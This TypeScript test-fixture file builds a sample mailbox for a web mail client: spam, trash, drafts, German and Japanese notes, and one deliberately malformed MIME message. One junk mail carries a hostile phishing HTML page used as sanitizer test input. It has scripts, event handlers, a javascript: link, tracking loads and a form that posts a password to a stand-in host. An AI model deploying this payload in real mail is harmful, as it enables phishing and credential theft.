// What a mailbox also holds: junk, deleted mail, drafts, notes, HTML that means harm, and one message that is broken.
import { before, messageId, owner, person, type Placed } from './letter.ts';
import { alternative, html, message, plain, type Part } from './mime.ts';

const placed = (
  now: Date,
  folder: string,
  from: string,
  ago: string,
  subject: string,
  body: Part,
  flags: readonly string[] = [],
): Placed => {
  const date = before(now, ago, subject);
  const to = folder === 'Drafts' ? [] : [owner];
  const raw = message({ from: person(from), to, subject, date, id: messageId(folder, subject) }, body);
  return { folder, message: { raw, flags, date } };
};

const junk = (now: Date): Placed[] => {
  const one = (from: string, ago: string, subject: string, text: string): Placed =>
    placed(now, 'Junk', from, ago, subject, plain(text));
  return [
    one(
      'Prize Desk <winner@prize.example.net>',
      '5h',
      'YOU are todays lucky visitor!!!',
      'Dear Sir or Madam,\n\nyour address won a very big prize. To receive it send us your telephone number and your shoe size.\n',
    ),
    one(
      'Cheap Watches <sales@watches.example.com>',
      '19h',
      'Watches -90% only today (again)',
      'Gold watches, silver watches, watches in between.\nhttps://watches.example.com/today\n',
    ),
    one(
      'Dr. Miracle <dr@miracle.example.org>',
      '2d',
      'Sleep two hours and feel like twenty',
      'One drop in the morning, one drop in the evening. Science does not want you to know.\n',
    ),
    one(
      'Parcel Service <parcel@delivery.example.net>',
      '3d',
      'Your parcel could not be delivered (fee 1,99)',
      'Your parcel waits. Please pay the small fee here: http://delivery.example.net/pay?id=83311\n',
    ),
    one(
      'Crypto Captain <captain@coins.example.com>',
      '6d',
      'Robin, this coin goes to the moon 🚀🚀🚀',
      'Everybody who bought yesterday is happy today. Tomorrow it may be too late.\n',
    ),
    one('限时优惠 <promo@example.net>', '8d', '发票代开，量大从优', '各类票据，当天办理，电话联系。\n'),
    one(
      'Old Friend <friend@example.org>',
      '12d',
      'Remember me?',
      'We met at the conference. I have a business proposal about a container full of printers.\n',
    ),
    placed(
      now,
      'Junk',
      'Account Security <security@example.net>',
      '26h',
      'Urgent: verify your mailbox now',
      alternative(plain('Your mailbox will be closed. Verify it now.\n'), html(hostile)),
    ),
  ];
};

// Everything that a page must not let through: scripts, handlers, forms, frames, styles that load or cover.
const hostile = `<!DOCTYPE html>
<html><head><meta http-equiv="refresh" content="0;url=https://track.example.net/refresh">
<base href="https://track.example.net/"><link rel="stylesheet" href="https://track.example.net/mail.css">
<style>@import url(https://track.example.net/import.css); body{background:url(https://track.example.net/body.png)}
.cover{position:fixed;top:0;left:0;right:0;bottom:0;z-index:9999}</style>
<script>parent.document.title = 'stolen'; fetch('https://track.example.net/script');</script></head>
<body onload="parent.postMessage('stolen','*')">
<h2 style="color:#b00020">Your mailbox will be closed today</h2>
<p>Please verify your account within 24 hours, or all messages are deleted.</p>
<form action="https://track.example.net/login" method="post"><input name="user" placeholder="User"> <input name="password" type="password" placeholder="Password"> <button>Verify</button></form>
<p><a href="javascript:alert(document.domain)">Verify here</a> or <a href="https://track.example.net/verify" target="_top">on our page</a>.</p>
<img src="x" onerror="parent.document.title='stolen'"><svg onload="alert(1)"><circle r="9"></circle></svg>
<iframe src="https://track.example.net/frame"></iframe><object data="https://track.example.net/object"></object>
<div class="cover"></div><img src="https://track.example.net/pixel.gif" width="1" height="1">
</body></html>
`;

const trash = (now: Date): Placed[] =>
  (
    [
      [
        'Survey Team <survey@example.com>',
        '2d',
        'How was your last order?',
        'It takes only two minutes: https://survey.example.com/8812\n',
      ],
      [
        'Gym on the Corner <gym@example.net>',
        '4d',
        'We miss you, Robin',
        'Your last visit was 212 days ago. The treadmill asks about you.\n',
      ],
      [
        'Mira Holm <mira@example.org>',
        '6d',
        'Ignore my last mail',
        'I found the file. It was on the desktop, where else.\n\nMira\n',
      ],
      [
        'Example Rail <tickets@rail.example.net>',
        '9d',
        'Delay of your train',
        'Your train is 12 minutes late. Your connection waits.\n',
      ],
      ['Harbour Builds <builds@example.org>', '11d', 'Test mail, please delete', 'As you wish.\n'],
    ] as const
  ).map(([from, ago, subject, text]) => placed(now, 'Trash', from, ago, subject, plain(text), ['\\Seen']));

const drafts = (now: Date): Placed[] =>
  (
    [
      ['1h', 'Dinner on Saturday', 'Hi Nadia,\n\nyes! I bring the trains and a salad. Is it fine if'],
      [
        '2d',
        'Speaking at Open Mail Days: title and summary',
        'A mailbox in a browser tab\n\nWhat if the mail program were a page, and the server only moved bytes? In thirty minutes we',
      ],
      ['9d', 'Γεια σου, Ελένη', 'Αγαπητή Ελένη,\n\nγια τον Ιούνιο σκέφτηκα να'],
      ['15d', '', 'Do not forget: keys, charger, the blue folder'],
    ] as const
  ).map(([ago, subject, text]) =>
    placed(now, 'Drafts', `${owner.name} <${owner.address}>`, ago, subject, plain(`${text}\n`), [
      '\\Seen',
      '\\Draft',
    ]),
  );

const notes = (now: Date): Placed[] => {
  const me = `${owner.name} <${owner.address}>`;
  const seen = ['\\Seen'];
  const ideas = 'Entwürfe & Ideen';
  return [
    placed(
      now,
      ideas,
      me,
      '3d',
      'Idee: Karte mit allen Bäckereien',
      plain(
        'Eine Karte, auf der nur Bäckereien sind. Geöffnet, bald zu, ausverkauft.\n\nAtlas könnte die Kacheln liefern.\n',
      ),
      seen,
    ),
    placed(
      now,
      ideas,
      me,
      '24d',
      'Gedanke zum Vortrag',
      plain('Nicht mit Technik anfangen. Mit dem Zug anfangen, in dem kein Netz ist.\n'),
      [...seen, '\\Flagged'],
    ),
    placed(
      now,
      ideas,
      me,
      '9w',
      'Liste: Bücher für den Winter',
      plain('– Leuchttürme (Oskar!)\n– etwas über Bienen\n– die Briefe, endlich zu Ende\n'),
      seen,
    ),
    placed(
      now,
      '日本語',
      '佐藤 遥 <haruka@example.org>',
      '40d',
      '日本語の練習：第一課',
      plain(
        'ロビンさん\n\n今週の宿題です。次の文を声に出して読んでください。\n\n「春はあけぼの。やうやう白くなりゆく山ぎは、少し明かりて。」\n\n意味は会った時に説明しますね。\n\n遥\n',
      ),
      seen,
    ),
    placed(
      now,
      '日本語',
      '佐藤 遥 <haruka@example.org>',
      '33d',
      '日本語の練習：第二課',
      plain(
        'ロビンさん\n\n前回の録音を聞きました。とても上手です！\n今週は手紙の書き方です。「拝啓」で始めて「敬具」で終わります。\n\n遥\n',
      ),
      [],
    ),
  ];
};

// A boundary that never closes, base64 with holes, a word that was never finished, raw bytes in the header, no date.
const broken = (now: Date): Placed => {
  const text = [
    'From: "Old Scanner, 2nd floor <scanner@example.org',
    'To: undisclosed recipients',
    'Subject: =?UTF-8?B?U2NhbiBhdHRhY2hl=?= =?x-unknown?Q?=ZZ?= caf\u00e9',
    'Date: Thu, 31 Foo 20xx 25:61:00',
    'Content-Type: multipart/mixed; boundary="never closed',
    'MIME-Version: 1.0',
    '',
    '--never closed',
    'Content-Type: text/plain; charset=martian',
    'Content-Transfer-Encoding: base64',
    '',
    'VGhpcyBzY2FuIHdhcyBpbnRlcnJ1*****cHRlZC4gUGxlYXNlIHRyeSBhZ2Fpbi4',
    '--never closed',
    'Content-Type: application/pdf; name=scan.pdf',
    'Content-Transfer-Encoding: base64',
    '',
    'JVBERi0xLjQKJeLjz9MKMyAwIG9iag',
  ];
  const date = before(now, '37h', 'broken');
  return {
    folder: 'INBOX',
    message: { raw: Buffer.from(text.join('\r\n'), 'latin1'), flags: ['\\Seen'], date },
  };
};

/** All of them. */
export const oddities = (now: Date): Placed[] => [
  ...junk(now),
  ...trash(now),
  ...drafts(now),
  ...notes(now),
  broken(now),
];
